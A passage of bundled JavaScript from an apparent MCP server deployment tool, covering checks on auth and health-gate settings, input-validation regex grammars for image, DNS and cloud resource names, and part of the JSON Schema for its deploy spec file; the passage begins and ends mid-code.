        return `${field}: ${JSON.stringify(value)} must be https (plain http only on a loopback host: 127.0.0.1, localhost, [::1])`;
    if (url.hash)
        return `${field}: ${JSON.stringify(value)} must not have a fragment`;
    return undefined;
}
const asRecord = (value) => (value && typeof value === 'object' ? value : {});
/** The readable bearer sources: a pod reads an env var or a Secret key, a cloud revision its platform's store; a CSI file is not what the bridge reads. */
const BEARER_SOURCES = ['kubernetes', 'external', 'env', 'github', 'gcp', 'aws', 'azure'];
/** Reads and checks `auth:` (already schema-valid); every problem in one InputError. */
function readAuth(raw, file, where) {
    if (raw === undefined)
        return { mode: 'none' };
    const auth = asRecord(raw);
    const mode = auth.mode;
    const problems = [];
    const problem = (path, text) => problems.push(`${where(path)}: ${text}`);
    for (const other of ['bearer', 'oauth']) {
        if (auth[other] !== undefined && mode !== other)
            problem(['auth', other], `auth.${other} is set, but auth.mode is ${mode}: remove it or set mode: ${other}`);
    }
    let result = { mode: 'none' };
    if (mode === 'bearer') {
        const bearer = asRecord(auth.bearer);
        if (auth.bearer === undefined)
            problem(['auth', 'mode'], 'auth.mode bearer needs auth.bearer.secret (the token, by reference)');
        const secret = asRecord(bearer.secret);
        const from = asRecord(secret.from);
        const kind = Object.keys(from)[0];
        if (kind && !BEARER_SOURCES.includes(kind)) {
            problem(['auth', 'bearer', 'secret', 'from'], `auth.bearer.secret.from.${kind} cannot hold the bridge's token; use from.kubernetes, from.external, from.env or from.github (or a cloud target's store: from.gcp, from.aws, from.azure)`);
        }
        result = {
            mode,
            secret: {
                name: secret.name ?? DEFAULT_TOKEN_VARIABLE,
                from,
                ...(secret.rotation !== undefined ? { rotation: secret.rotation } : {}),
                ...(secret.refresh !== undefined ? { refresh: secret.refresh } : {}),
            },
        };
    }
    else if (mode === 'oauth') {
        if (auth.oauth === undefined)
            problem(['auth', 'mode'], 'auth.mode oauth needs auth.oauth with issuer and audience');
        const oauth = asRecord(auth.oauth);
        const issuer = oauth.issuer ?? '';
        const audience = oauth.audience ?? '';
        for (const [field, value] of [['issuer', issuer], ['audience', audience], ['jwks-uri', oauth['jwks-uri']]]) {
            if (typeof value !== 'string' || !value || value.startsWith('file:'))
                continue;
            const wrong = checkSecureUrl(value, `auth.oauth.${field}`);
            if (wrong)
                problem(['auth', 'oauth', field], wrong);
        }
        if (oauth['jwks-uri'] !== undefined && oauth['jwks-configmap'] !== undefined)
            problem(['auth', 'oauth', 'jwks-configmap'], 'give auth.oauth.jwks-uri or auth.oauth.jwks-configmap, not both');
        const configMap = oauth['jwks-configmap'] ? asRecord(oauth['jwks-configmap']) : undefined;
        result = {
            mode,
            issuer,
            audience,
            scopes: oauth.scopes ?? [],
            ...(oauth['jwks-uri'] !== undefined ? { jwksUri: oauth['jwks-uri'] } : {}),
            ...(configMap ? { jwksConfigMap: { name: configMap.name, key: configMap.key ?? 'jwks.json' } } : {}),
        };
    }
    if (problems.length)
        throw new util_errors/* InputError */.dz(`${file} is not a valid deploy spec:\n  ${problems.join('\n  ')}`);
    return result;
}
/** `health.auth` of the spec, checked against the mode declared. */
function readGateCredentials(raw, auth, file, where) {
    const h = asRecord(raw);
    const credentials = {
        ...(h['bearer-token-env'] !== undefined ? { bearerTokenEnv: h['bearer-token-env'] } : {}),
        ...(h['oauth-client-id'] !== undefined ? { oauthClientId: h['oauth-client-id'] } : {}),
        ...(h['oauth-client-secret-env'] !== undefined ? { oauthClientSecretEnv: h['oauth-client-secret-env'] } : {}),
    };
    const problems = [];
    if ((credentials.oauthClientId === undefined) !== (credentials.oauthClientSecretEnv === undefined)) {
        problems.push(`${where(['health', 'auth'])}: health.auth needs both oauth-client-id and oauth-client-secret-env, or neither`);
    }
    if (credentials.oauthClientId !== undefined && auth.mode !== 'oauth')
        problems.push(`${where(['health', 'auth', 'oauth-client-id'])}: health.auth.oauth-client-id is set, but auth.mode is ${auth.mode}`);
    if (credentials.bearerTokenEnv !== undefined && auth.mode !== 'bearer')
        problems.push(`${where(['health', 'auth', 'bearer-token-env'])}: health.auth.bearer-token-env is set, but auth.mode is ${auth.mode}`);
    if (problems.length)
        throw new util_errors/* InputError */.dz(`${file} is not a valid deploy spec:\n  ${problems.join('\n  ')}`);
    return credentials;
}

;// CONCATENATED MODULE: ./src/spec/grammar.ts
/**
 * The grammars of the spec's untrusted strings, as JSON Schema patterns (the schema uses them, so
 * editors check them too) and as checks for the same values arriving by flag or input. Each value
 * that matches can be written into a Dockerfile, a Compose file or a command line without
 * starting a new instruction: none of these grammars admits whitespace or a line break.
 */

// The distribution reference grammar (github.com/distribution/reference, regexp.go), anchored.
const PATH_COMPONENT = '[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*';
const DOMAIN_COMPONENT = '(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9])';
const DOMAIN = `(?:${DOMAIN_COMPONENT}(?:\\.${DOMAIN_COMPONENT})*|\\[[a-fA-F0-9:]+\\])(?::[0-9]+)?`;
const NAME = `(?:${DOMAIN}/)?${PATH_COMPONENT}(?:/${PATH_COMPONENT})*`;
const TAG = '[\\w][\\w.-]{0,127}';
const DIGEST = '[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,}';
/** Each grammar: the pattern and the words an error uses for it. */
const GRAMMARS = {
    imageReference: { pattern: `^${NAME}(?::${TAG})?(?:@${DIGEST})?$`, says: 'an image reference ([registry/]repository[:tag][@digest], lowercase repository)' },
    imageRepository: { pattern: `^${NAME}$`, says: 'an image repository without tag ([registry/]repository, lowercase)' },
    serverName: { pattern: '^[a-z0-9][a-z0-9-]{0,62}$', says: 'a DNS-style name: lowercase letters, digits and dashes, at most 63' },
    urlPath: { pattern: "^/[A-Za-z0-9._~!$&'()*+,;=:@%/-]*$", says: "a URL path: a leading / and then only letters, digits and -._~!$&'()*+,;=:@%/" },
    envName: { pattern: '^[A-Za-z_][A-Za-z0-9_]*$', says: 'an environment variable name: letters, digits and _, not starting with a digit' },
    secretId: { pattern: '^[A-Za-z0-9][A-Za-z0-9_.-]*$', says: 'an id of letters, digits, _ . and -' },
    dnsSubdomain: { pattern: '^(?=.{1,253}$)[a-z0-9](?:[-a-z0-9]*[a-z0-9])?(?:\\.[a-z0-9](?:[-a-z0-9]*[a-z0-9])?)*$', says: 'a DNS subdomain name: lowercase letters, digits, - and .' },
    dnsLabel: { pattern: '^[a-z0-9](?:[-a-z0-9]{0,61}[a-z0-9])?$', says: 'a DNS label: lowercase letters, digits and -, at most 63' },
    hostname: { pattern: '^(?:\\*\\.)?[a-z0-9](?:[-a-z0-9]*[a-z0-9])?(?:\\.[a-z0-9](?:[-a-z0-9]*[a-z0-9])?)*$', says: 'a host name (lowercase, an optional leading *.)' },
    secretKey: { pattern: '^[-._a-zA-Z0-9]+$', says: 'a key of letters, digits, - _ and .' },
    gcpSecret: { pattern: '^(?:projects/[a-z0-9-]+/secrets/)?[A-Za-z0-9_-]{1,255}$', says: 'a Secret Manager secret id or projects/PROJECT/secrets/ID' },
    gcpVersion: { pattern: '^(?:latest|[0-9]+)$', says: '"latest" or a version number' },
    quantity: { pattern: '^[0-9]+(?:\\.[0-9]+)?(?:[KMGTPE]i?|[kmgtpe])?$', says: 'a quantity such as 256Mi, 1Gi or 500m' },
    composeProject: { pattern: '^[a-z0-9][a-z0-9_-]*$', says: 'a Compose project name: lowercase letters, digits, _ and -' },
    cloudRegion: { pattern: '^[a-z0-9-]+$', says: 'a region such as europe-west1' },
    httpUrl: { pattern: '^https?://[^\\s/?#@]+(?:/[^\\s#]*)?$', says: 'an absolute http(s) URL without user info or fragment' },
    jwksUri: { pattern: '^(?:https?://[^\\s/?#@]+(?:/[^\\s#]*)?|file:///[^\\s?#]+)$', says: 'an http(s) URL, or file:///PATH' },
    oauthScope: { pattern: '^[!#-\\[\\]-~]+$', says: 'an OAuth scope: printable ASCII without space, " or \\' },
    oauthClientId: { pattern: '^[!-~]{1,255}$', says: 'a client id of printable ASCII without space' },
    gcpProject: { pattern: '^[a-z][a-z0-9-]{4,28}[a-z0-9]$', says: 'a Google Cloud project id' },
};
const compiled = new Map();
function matches(grammar, value) {
    let re = compiled.get(grammar);
    if (!re)
        compiled.set(grammar, (re = new RegExp(GRAMMARS[grammar].pattern, 'u')));
    return re.test(value);
}
/** Throws an InputError naming `where` (a flag, an input or a spec field) when `value` is not of `grammar`. */
function requireGrammar(grammar, value, where) {
    if (!matches(grammar, value))
        throw new InputError(`${where}: ${JSON.stringify(value)} is not ${GRAMMARS[grammar].says}`);
    return value;
}

;// CONCATENATED MODULE: ./src/spec/cloud-grammar.ts
/**
 * The grammars of the cloud targets' settings and secret references (issue 13), in the shape of
 * src/spec/grammar.ts: a JSON Schema pattern (the schema uses it, so editors check it too) and the
 * words an error uses. Each follows the platform's documented naming rules, narrowed to ASCII;
 * none admits whitespace, a quote or a line break.
 */

const PARTITION = 'arn:aws(?:-[a-z]+)*';
const REGION = '[a-z]{2}(?:-[a-z]+)+-[0-9]';
const ACCOUNT = '[0-9]{12}';
const CLOUD_GRAMMARS = {
    cloudRunService: { pattern: '^[a-z](?:[-a-z0-9]{0,47}[a-z0-9])?$', says: 'a Cloud Run service name: a lowercase letter, then lowercase letters, digits and -, at most 49, not ending in -' },
    cloudRunTag: { pattern: '^[a-z](?:[-a-z0-9]{0,44}[a-z0-9])?$', says: 'a Cloud Run revision tag: a lowercase letter, then lowercase letters, digits and -, not ending in -' },
    gcpServiceAccount: {
        pattern: '^(?:[a-z][a-z0-9-]{4,28}[a-z0-9]|[0-9]{1,20}-compute)@[a-z][a-z0-9.-]{0,62}\\.gserviceaccount\\.com$',
        says: 'a service account e-mail (NAME@PROJECT.iam.gserviceaccount.com)',
    },
    awsSecretArn: {
        pattern: `^(?:${PARTITION}:secretsmanager:${REGION}:${ACCOUNT}:secret:[A-Za-z0-9/_+=.@-]{1,512}(?::[A-Za-z0-9_.-]*:[A-Za-z0-9_-]*:[A-Za-z0-9-]*)?|${PARTITION}:ssm:${REGION}:${ACCOUNT}:parameter/[A-Za-z0-9_./-]{1,2048})$`,
        says: 'a Secrets Manager secret ARN (arn:aws:secretsmanager:REGION:ACCOUNT:secret:NAME[:json-key:stage:version]) or an SSM parameter ARN (arn:aws:ssm:REGION:ACCOUNT:parameter/NAME)',
    },
    awsRoleArn: { pattern: `^${PARTITION}:iam::${ACCOUNT}:role/(?:[A-Za-z0-9+=,.@_-]+/)*[A-Za-z0-9+=,.@_-]{1,64}$`, says: 'an IAM role ARN (arn:aws:iam::ACCOUNT:role/NAME)' },
    awsRegion: { pattern: `^${REGION}$`, says: 'an AWS region such as eu-west-1' },
    awsTargetGroupArn: {
        pattern: `^${PARTITION}:elasticloadbalancing:${REGION}:${ACCOUNT}:targetgroup/[A-Za-z0-9-]{1,32}/[0-9a-f]{16}$`,
        says: 'a target group ARN (arn:aws:elasticloadbalancing:REGION:ACCOUNT:targetgroup/NAME/ID)',
    },
    ecsName: { pattern: '^[A-Za-z0-9_-]{1,255}$', says: 'an ECS name: letters, digits, _ and -, at most 255' },
    logGroup: { pattern: '^[A-Za-z0-9_./#-]{1,512}$', says: 'a CloudWatch log group name: letters, digits and _ . / # -' },
    subnet: { pattern: '^subnet-(?:[0-9a-f]{8}|[0-9a-f]{17})$', says: 'a subnet id (subnet-0123456789abcdef0)' },
    securityGroup: { pattern: '^sg-(?:[0-9a-f]{8}|[0-9a-f]{17})$', says: 'a security group id (sg-0123456789abcdef0)' },
    azureSubscription: { pattern: '^[0-9a-fA-F]{8}-(?:[0-9a-fA-F]{4}-){3}[0-9a-fA-F]{12}$', says: 'a subscription id (a GUID)' },
    azureResourceGroup: { pattern: '^[-A-Za-z0-9_.()]{0,89}[-A-Za-z0-9_()]$', says: 'a resource group name: letters, digits and - _ . ( ), at most 90, not ending in .' },
    containerAppName: { pattern: '^(?!.*--)[a-z][a-z0-9-]{0,30}[a-z0-9]$', says: 'a container app name: 2 to 32 lowercase letters, digits and -, starting with a letter, no --' },
    containerAppEnvironment: { pattern: '^[A-Za-z0-9][A-Za-z0-9-]{0,58}[A-Za-z0-9]$', says: 'a Container Apps environment name: letters, digits and -, 2 to 60' },
    azureIdentity: {
        pattern: '^(?:system|/subscriptions/[0-9a-fA-F-]{36}/resource[gG]roups/[-A-Za-z0-9_.()]{1,90}/providers/Microsoft\\.ManagedIdentity/userAssignedIdentities/[A-Za-z0-9][A-Za-z0-9_-]{2,127})$',
        says: 'system, or a user-assigned identity resource id (/subscriptions/ID/resourceGroups/RG/providers/Microsoft.ManagedIdentity/userAssignedIdentities/NAME)',
    },
    keyVaultName: { pattern: '^(?!.*--)[A-Za-z][A-Za-z0-9-]{1,22}[A-Za-z0-9]$', says: 'a Key Vault name: 3 to 24 letters, digits and -, starting with a letter, no --' },
    keyVaultSecret: { pattern: '^[A-Za-z0-9-]{1,127}$', says: 'a Key Vault secret name: letters, digits and -, at most 127' },
    keyVaultVersion: { pattern: '^[0-9a-f]{32}$', says: 'a Key Vault secret version (32 hex digits)' },
    revisionSuffix: { pattern: '^[a-z0-9](?:[-a-z0-9]{0,30}[a-z0-9])?$', says: 'a revision suffix: lowercase letters, digits and -, at most 32' },
};
/** The schema fragment for a string of `g`. */
const cloudGrammar = (g) => ({ pattern: CLOUD_GRAMMARS[g].pattern, patternErrorMessage: CLOUD_GRAMMARS[g].says });
/** Throws an InputError naming `where` when `value` is not of `grammar` (values arriving by flag, or checked again at render). */
function requireCloudGrammar(grammar, value, where) {
    if (!new RegExp(CLOUD_GRAMMARS[grammar].pattern, 'u').test(value))
        throw new InputError(`${where}: ${JSON.stringify(value)} is not ${CLOUD_GRAMMARS[grammar].says}`);
    return value;
}

;// CONCATENATED MODULE: ./src/spec/schema.ts
/**
 * The JSON Schema of mcp-deploy.yml. schema/mcp-deploy.schema.json is written from it (npm run
 * schema) for editors; a test keeps the two equal. Every string that reaches a generated file or
 * a command line is pinned to its grammar (src/spec/grammar.ts); patternErrorMessage is what
 * editors (VS Code, yaml-language-server) and our own errors say when one does not match.
 */


const grammar = (g) => ({ pattern: GRAMMARS[g].pattern, patternErrorMessage: GRAMMARS[g].says });
/** Where a secret's value lives: exactly one kind, a reference, never the value. */
const secretSource = {
    "type": "object",
    "additionalProperties": false,
    "minProperties": 1,
    "maxProperties": 1,
    "properties": {
        "kubernetes": {
            "type": "object",
            "additionalProperties": false,
            "required": [
                "secret",
                "key"
            ],
            "properties": {
                "secret": {
                    "type": "string",
                    ...grammar('dnsSubdomain')
                },
                "key": {
                    "type": "string",
                    ...grammar('secretKey')
                }
            }
        },
        "env": {
            "type": "string",
            ...grammar('envName'),
            "description": "An environment variable of the machine that runs the stage."
        },
        "github": {
            "type": "string",
            ...grammar('envName'),
            "description": "A GitHub Actions secret name."
        },
        "gcp": {
            "type": "object",
            "additionalProperties": false,
            "required": [
                "secret"
            ],
            "properties": {
                "secret": {
                    "type": "string",
                    ...grammar('gcpSecret')
                },
                "version": {
                    "type": "string",
                    ...grammar('gcpVersion')
                }
            }
        },
        "aws": {
            "type": "object",
            "description": "ECS: a Secrets Manager secret or SSM parameter, by ARN (the task's execution role reads it).",
            "additionalProperties": false,
            "required": [
                "arn"
            ],
            "properties": {
                "arn": {
                    "type": "string",
                    ...cloudGrammar('awsSecretArn')
                }
            }
        },
        "azure": {
            "type": "object",
            "description": "Container Apps: a Key Vault secret, read by the app's managed identity (targets.containerapps.identity).",
            "additionalProperties": false,
            "required": [
                "vault",
                "secret"
            ],
            "properties": {
                "vault": {
                    "type": "string",
                    ...cloudGrammar('keyVaultName')
                },
                "secret": {
                    "type": "string",
                    ...cloudGrammar('keyVaultSecret')
                },
                "version": {
                    "type": "string",
                    ...cloudGrammar('keyVaultVersion')
                }
            }
        },
        "external": {
            "type": "object",
            "description": "An External Secrets Operator store: rendered as an ExternalSecret (external-secrets.io/v1) and referenced by secretKeyRef.",
            "additionalProperties": false,
            "required": [
                "store",
                "key"
            ],
            "properties": {
                "store": {
                    "type": "string",
                    ...grammar('dnsSubdomain'),
                    "description": "The SecretStore or ClusterSecretStore name."
                },
                "kind": {
                    "enum": [
                        "SecretStore",
                        "ClusterSecretStore"
                    ],
                    "default": "SecretStore"
                },
                "key": {
                    "type": "string",
                    "pattern": "^[A-Za-z0-9_.:/@+=-]+$",
                    "patternErrorMessage": "a remote key of letters, digits and _ . : / @ + = -",
                    "description": "The secret's key (name or path) in the external store."
                },
                "property": {
                    "type": "string",
                    "pattern": "^[A-Za-z0-9_.:/@+=-]+$",
                    "patternErrorMessage": "a property of letters, digits and _ . : / @ + = -",
                    "description": "A property inside the remote secret (a JSON field)."
                }
            }
        },
        "csi": {
            "type": "object",
            "description": "A Secrets Store CSI driver SecretProviderClass: mounted read-only; the server reads the file named by NAME_FILE.",
            "additionalProperties": false,
            "required": [
                "provider-class",
                "object"
            ],
            "properties": {
                "provider-class": {
                    "type": "string",
                    ...grammar('dnsSubdomain')
                },
                "object": {
                    "type": "string",
                    ...grammar('secretId'),
                    "description": "The object's file name in the mounted volume (its objectAlias)."
                }
            }
        }
    }
};
/** The handoff's notes on a secret. */
const secretNotes = {
    "rotation": {
        "type": "string",
        "pattern": "^[^\\u0000-\\u001f]{1,200}$",
        "patternErrorMessage": "one line of text, at most 200 characters",
        "description": "How and how often the secret is rotated (for the credentials handoff), e.g. 90 days, by the issuer."
    },
    "refresh": {
        "type": "string",
        "pattern": "^[^\\u0000-\\u001f]{1,200}$",
        "patternErrorMessage": "one line of text, at most 200 characters",
        "description": "Token-refresh needs (for the credentials handoff), e.g. access token expires hourly; refresh token in the store."
    }
};
const deploySchema = {
    "$schema": "http://json-schema.org/draft-07/schema#",
    "$id": "https://github.com/OWNER/mcp-server-orchestrator/schema/mcp-deploy.schema.json",
    "title": "mcp-deploy.yml",
    "description": "How mcp-server-orchestrator builds, scans, pushes, runs, gates and hands off one MCP server.",
    "type": "object",
    "additionalProperties": false,
    "required": [
        "server"
    ],
    "properties": {
        "server": {
            "type": "object",
            "additionalProperties": false,
            "required": [
                "name"
            ],
            "properties": {
                "name": {
                    "type": "string",
                    ...grammar('serverName'),
                    "description": "DNS-style name: lowercase letters, digits and dashes."
                },
                "transport": {
                    "enum": [
                        "streamable-http",
                        "sse",
                        "stdio"
                    ],
                    "default": "streamable-http",
                    "description": "stdio: the package stage adds the HTTP bridge."
                },
                "port": {
                    "type": "integer",
                    "minimum": 1,
                    "maximum": 65535,
                    "default": 8080
                },
                "path": {
                    "type": "string",
                    ...grammar('urlPath'),
                    "default": "/mcp"
                },
                "command": {
                    "description": "The server's start command inside the image (default: from package.json or pyproject.toml).",
                    "oneOf": [
                        {
                            "type": "string",
                            "minLength": 1
                        },
                        {
                            "type": "array",
                            "items": {
                                "type": "string"
                            },
                            "minItems": 1
                        }
                    ]
                }
            }
        },
        "build": {
            "type": "object",
            "additionalProperties": false,
            "properties": {
                "context": {
                    "type": "string",
                    "default": "."
                },
                "dockerfile": {
                    "type": "string",
                    "description": "Optional: generated from a template when absent."
                },
                "base": {
                    "type": "string",
                    ...grammar('imageReference'),
                    "description": "Base image of the generated Dockerfile (pin it by digest)."
                },
                "install": {
                    "enum": [
                        "image",
                        "host"
                    ],
                    "default": "image",
                    "description": "Install dependencies inside the build (image) or on the host, copied in (host: no network in the build)."
                },
                "args": {
                    "type": "object",
                    "propertyNames": grammar('envName'),
                    "additionalProperties": {
                        "type": [
                            "string",
                            "number",
                            "boolean"
                        ]
                    }
                },
                "secrets": {
                    "type": "array",
                    "description": "BuildKit secret mounts: id, and the environment variable holding the value.",
                    "items": {
                        "type": "object",
                        "additionalProperties": false,
                        "required": [
                            "id",
                            "env"
                        ],
                        "properties": {
                            "id": {
                                "type": "string",
                                ...grammar('secretId')
                            },
                            "env": {
                                "type": "string",
                                ...grammar('envName')
                            }
                        }
                    }
                }
            }
        },
        "image": {
            "type": "string",
            ...grammar('imageRepository'),
            "description": "Repository to push to, without tag: ghcr.io/acme/weather."
        },
        "env": {
            "type": "object",
            "propertyNames": grammar('envName'),
            "additionalProperties": {
                "type": [
                    "string",
                    "number",
                    "boolean"
                ]
            }
        },
        "secrets": {
            "type": "array",
            "description": "References only, never values.",
            "items": {
                "type": "object",
                "additionalProperties": false,
                "required": [
                    "name",
                    "from"
                ],
                "properties": {
                    "name": {
                        "type": "string",
                        ...grammar('envName')
                    },
                    "from": secretSource,
                    "rotation": secretNotes.rotation,
                    "refresh": secretNotes.refresh
                }
            }
        },
        "auth": {
            "type": "object",
            "additionalProperties": false,
            "required": [
                "mode"
            ],
            "description": "Who may call the deployed server: the bridge enforces it (packaged stdio servers); servers with their own HTTP read the same MCP_BRIDGE_* environment. The health gate proves the refusal and the authorized path.",
            "properties": {
                "mode": {
                    "enum": [
                        "none",
                        "bearer",
                        "oauth"
                    ],
                    "description": "none; bearer: one static token (service to service); oauth: JWT access tokens from one issuer, validated against its keys (an OAuth 2.1 protected resource, RFC 9728 metadata)."
                },
                "bearer": {
                    "type": "object",
                    "additionalProperties": false,
                    "required": [
                        "secret"
                    ],
                    "properties": {
                        "secret": {
                            "type": "object",
                            "additionalProperties": false,
                            "required": [
                                "from"
                            ],
                            "description": "The token, by reference (as in secrets:), never its value.",
                            "properties": {
                                "name": {
                                    "type": "string",
                                    ...grammar('envName'),
                                    "default": "MCP_BRIDGE_TOKEN",
                                    "description": "The environment variable the bridge reads the token from (kept from the server process)."
                                },
                                "from": secretSource,
                                ...secretNotes
                            }
                        }
                    }
                },
                "oauth": {
                    "type": "object",
                    "additionalProperties": false,
                    "required": [
                        "issuer",
                        "audience"
                    ],
                    "properties": {
                        "issuer": {
                            "type": "string",
                            ...grammar('httpUrl'),
                            "description": "The authorization server's issuer identifier, exactly as tokens carry it in iss (https, or http on a loopback host)."
                        },
                        "audience": {
                            "type": "string",
                            ...grammar('httpUrl'),
                            "description": "This server's resource URL (RFC 8707), required in the tokens' aud: usually its public MCP URL."
                        },
                        "scopes": {
                            "type": "array",
                            "uniqueItems": true,
                            "items": {
                                "type": "string",
                                ...grammar('oauthScope')
                            },
                            "description": "Scopes every token must carry (403 insufficient_scope otherwise)."
                        },
                        "jwks-uri": {
                            "type": "string",
                            ...grammar('jwksUri'),
                            "description": "The issuer's key set, skipping discovery: an https URL, or file:///PATH of a JWKS file inside the container (re-read on an unknown key id)."
                        },
                        "jwks-configmap": {
                            "type": "object",
                            "additionalProperties": false,
                            "required": [
                                "name"
                            ],
                            "description": "Kubernetes: the issuer's public keys from a ConfigMap, mounted read-only; for clusters whose pods cannot reach the issuer.",
                            "properties": {
                                "name": {
                                    "type": "string",
                                    ...grammar('dnsSubdomain')
                                },
                                "key": {
                                    "type": "string",
                                    ...grammar('secretKey'),
                                    "default": "jwks.json"
                                }
                            }
                        }
                    }
                }
            }
        },
        "resources": {
            "type": "object",
            "additionalProperties": false,
            "properties": {
                "cpu": {
                    "type": [
                        "string",
                        "number"
                    ],
                    ...grammar('quantity')
                },
                "memory": {
                    "type": "string",
                    ...grammar('quantity')
                }
            }
        },
        "scaling": {
            "type": "object",
            "additionalProperties": false,
            "properties": {
                "min": {
                    "type": "integer",
                    "minimum": 0
                },
                "max": {
                    "type": "integer",
                    "minimum": 1
                },
                "cpu": {
                    "type": "integer",
                    "minimum": 1,
                    "maximum": 100
                }
            }
        },
        "health": {
            "type": "object",
            "additionalProperties": false,
            "properties": {
                "expect-tools": {
                    "type": "array",
                    "items": {
                        "type": "string"
                    }
                },
                "contract": {
                    "type": "string"
                },
                "strict": {
                    "type": "boolean"
                },
                "smoke": {
                    "type": "object",
                    "additionalProperties": false,
                    "required": [
                        "tool"
                    ],
                    "properties": {
                        "tool": {
                            "type": "string"
                        },
                        "arguments": {
                            "type": "object"
                        }
                    }
                },
                "timeout": {
                    "type": "string",
                    "pattern": "^(\\d+(\\.\\d+)?(ms|s|m|h))+$|^\\d+$"
                },
                "allow-auth-required": {
                    "type": "boolean"
                },
                "auth": {
                    "type": "object",
                    "additionalProperties": false,
                    "description": "How the gate obtains a token when auth: is declared; values come from the environment of the machine that runs the gate.",
                    "properties": {
                        "bearer-token-env": {
                            "type": "string",
                            ...grammar('envName'),
                            "description": "bearer: the variable holding the token (default: the bearer secret's from.env)."
                        },
                        "oauth-client-id": {
                            "type": "string",
                            ...grammar('oauthClientId'),
                            "description": "oauth: a client of the issuer allowed the client-credentials grant for this resource."
                        },
                        "oauth-client-secret-env": {
                            "type": "string",
                            ...grammar('envName'),
                            "description": "oauth: the variable holding that client's secret."
                        }
                    }
                },
                "path": {
                    "type": "string",
                    ...grammar('urlPath'),
                    "description": "An HTTP health endpoint of a native HTTP server (Kubernetes probes it; without it, probes check the port). Bridged servers have /healthz and /readyz."
                }
            }
        },
        "ingress": {
            "type": "object",
            "additionalProperties": false,
            "properties": {
                "host": {
                    "type": "string",
                    ...grammar('hostname')
                },
                "class": {
                    "type": "string",
                    ...grammar('dnsSubdomain'),
                    "description": "The IngressClass (ingressClassName); default: targets.kubernetes.ingress-class, else the cluster's default class."
                },
                "controller": {
                    "enum": [
                        "nginx",
                        "other"
                    ],
                    "description": "nginx: ingress-nginx annotations (rate limit, streaming, session affinity on Mcp-Session-Id). Default: nginx when the class name contains nginx."
                },
                "controller-namespace": {
                    "type": "string",
                    ...grammar('dnsLabel'),
                    "description": "The namespace of the ingress controller's pods, admitted by the NetworkPolicy (default ingress-nginx for nginx)."
                },
                "rate-limit": {
                    "type": "object",
                    "additionalProperties": false,
                    "required": [
                        "rps"
                    ],
                    "properties": {
                        "rps": {
                            "type": "integer",
                            "minimum": 1,
                            "description": "Requests per second per client address."
                        }
                    }
                },
                "tls": {
                    "type": "object",
                    "additionalProperties": false,
                    "properties": {
                        "secret": {
                            "type": "string",
                            ...grammar('dnsSubdomain')
                        },
                        "issuer": {
                            "type": "string",
                            ...grammar('dnsSubdomain'),
                            "description": "A cert-manager ClusterIssuer: it writes the certificate to tls.secret (default SERVER-tls)."
                        }
                    }
                }
            }
        },
        "targets": {
            "type": "object",
            "additionalProperties": false,
            "properties": {
                "compose": {
                    "type": "object",
                    "additionalProperties": false,
                    "properties": {
                        "project": {
                            "type": "string",
                            ...grammar('composeProject')
                        },
                        "file": {
                            "type": "string",
                            "pattern": "^[^\\u0000-\\u001f]+$",
                            "patternErrorMessage": "a path on one line",
                            "description": "Your own Compose file (relative to this file) instead of a generated one: the server's service (the one whose image is the server's repository, else the one named like the server) runs the deployed image; nothing else changes."
                        }
                    }
                },
                "kubernetes": {
                    "type": "object",
                    "additionalProperties": false,
                    "properties": {
                        "namespace": {
                            "type": "string",
                            ...grammar('dnsLabel')
                        },
                        "manifests": {
                            "description": "Your own manifests (files or folders of YAML, relative to this file) instead of rendered ones: the server's image is set to the pushed digest, nothing else changes.",
                            "oneOf": [
                                {
                                    "type": "string",
                                    "pattern": "^[^\\u0000-\\u001f]+$",
                                    "patternErrorMessage": "a path on one line"
                                },
                                {
                                    "type": "array",
                                    "minItems": 1,
                                    "items": {
                                        "type": "string",
                                        "pattern": "^[^\\u0000-\\u001f]+$",
                                        "patternErrorMessage": "a path on one line"
                                    }
                                }
                            ]
                        },
                        "strategy": {
                            "enum": [
                                "candidate",
                                "rolling"
                            ],
                            "description": "candidate (default when a release serves): gate a one-replica candidate before rolling; rolling: roll directly."
                        },
                        "ingress-class": {
                            "type": "string",
                            ...grammar('dnsSubdomain')
                        },
                        "replicas": {
                            "type": "integer",
                            "minimum": 1,
                            "description": "Replicas when not autoscaling (default scaling.min, else 1)."
                        }
                    }
                },
                "cloudrun": {
                    "type": "object",
                    "additionalProperties": false,
                    "properties": {
                        "project": {
                            "type": "string",
                            ...grammar('gcpProject')
                        },
                        "region": {
                            "type": "string",
                            ...grammar('cloudRegion')
                        },
                        "service": {
                            "type": "string",
                            ...cloudGrammar('cloudRunService'),
                            "description": "The Cloud Run service (default: the server's name)."
                        },
                        "service-account": {
                            "type": "string",
                            ...cloudGrammar('gcpServiceAccount'),
                            "description": "The identity the revision runs as (it must read the Secret Manager secrets)."
                        },
                        "ingress": {
                            "enum": [
                                "all",
                                "internal",
                                "internal-and-cloud-load-balancing"
                            ],
                            "default": "all"
                        },
                        "concurrency": {
                            "type": "integer",
                            "minimum": 1,
                            "maximum": 1000,
                            "description": "containerConcurrency: requests one instance serves at once (default 80)."
                        },
                        "timeout": {
                            "type": "integer",
                            "minimum": 1,
                            "maximum": 3600,
                            "description": "Request timeout in seconds: an SSE stream ends when it runs out (default 3600, the maximum)."
                        }
                    }
                },
                "ecs": {
                    "type": "object",
                    "additionalProperties": false,
                    "description": "AWS ECS on Fargate: the task definition's and the service's settings.",
                    "properties": {
                        "region": {
                            "type": "string",
                            ...cloudGrammar('awsRegion')
                        },
                        "cluster": {
                            "type": "string",
                            ...cloudGrammar('ecsName'),
                            "default": "default"
                        },
                        "service": {
                            "type": "string",
                            ...cloudGrammar('ecsName'),
                            "description": "The ECS service (default: the server's name)."
                        },
                        "family": {
                            "type": "string",
                            ...cloudGrammar('ecsName'),
                            "description": "The task definition family (default: the server's name)."
                        },
                        "execution-role-arn": {
                            "type": "string",
                            ...cloudGrammar('awsRoleArn'),
                            "description": "The role ECS pulls the image, writes logs and reads secrets with."
                        },
                        "task-role-arn": {
                            "type": "string",
                            ...cloudGrammar('awsRoleArn'),
                            "description": "The role the server's own AWS calls run as."
                        },
                        "log-group": {
                            "type": "string",
                            ...cloudGrammar('logGroup'),
                            "description": "The CloudWatch Logs group of the awslogs driver (default /ecs/FAMILY)."
                        },
                        "architecture": {
                            "enum": [
                                "X86_64",
                                "ARM64"
                            ],
                            "default": "X86_64"
                        },
                        "subnets": {
                            "type": "array",
                            "minItems": 1,
                            "items": {
